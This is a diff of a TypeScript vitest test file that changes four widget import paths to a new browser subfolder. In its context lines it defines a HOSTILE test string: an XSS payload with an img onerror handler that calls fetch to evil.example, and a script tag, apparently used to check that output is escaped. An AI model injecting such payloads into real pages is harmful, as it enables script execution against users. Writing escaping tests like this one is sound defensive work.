@@ -4,10 +4,10 @@ import { afterAll, beforeAll, expect, test } from "vitest";
 import type { OpenApiDocument } from "../../src/serve/openapi/document.js";
 import { makeEpisode } from "../fakes/episodes.js";
 import { readJson, startServer, type TestServer } from "../fakes/start-server.js";
-import { readText, useBrowser, useClosing } from "../widget/drive-widget.js";
-import { IN_FIREFOX } from "../widget/find-firefox.js";
-import { findViolations } from "../widget/find-violations.js";
-import { openPage } from "../widget/open-page.js";
+import { readText, useBrowser, useClosing } from "../widget/browser/drive-widget.js";
+import { IN_FIREFOX } from "../widget/browser/find-firefox.js";
+import { findViolations } from "../widget/browser/find-violations.js";
+import { openPage } from "../widget/browser/open-page.js";
 
 const HOSTILE = `<img src=x onerror="fetch('https://evil.example')"><script>evil()</script> & '"`;
 
